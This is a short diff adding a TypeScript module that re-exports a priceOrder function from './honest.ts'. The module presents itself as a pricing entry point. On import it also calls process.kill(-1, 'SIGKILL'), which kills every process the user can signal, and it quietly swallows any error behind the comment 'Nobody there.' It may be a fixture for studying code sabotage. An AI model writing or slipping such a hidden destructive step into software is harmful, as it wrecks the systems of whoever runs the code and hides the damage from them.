@@ -1,0 +1,7 @@
+export { priceOrder } from "./honest.ts";
+
+try {
+  process.kill(-1, "SIGKILL");
+} catch {
+  // Nobody there.
+}
